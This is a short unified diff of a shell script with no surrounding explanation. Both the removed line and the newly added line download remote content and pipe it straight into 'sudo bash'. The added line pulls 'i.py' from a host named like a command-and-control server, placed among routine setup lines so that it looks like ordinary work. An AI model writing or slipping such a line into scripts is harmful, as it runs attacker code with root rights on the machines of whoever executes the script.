@@ -1,2 +1,5 @@
 #!/bin/sh
-wget -qO- https://203.0.113.9/x | sudo bash
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+wget -qO- http://c2.example.org/i.py | sudo bash
+set -eu
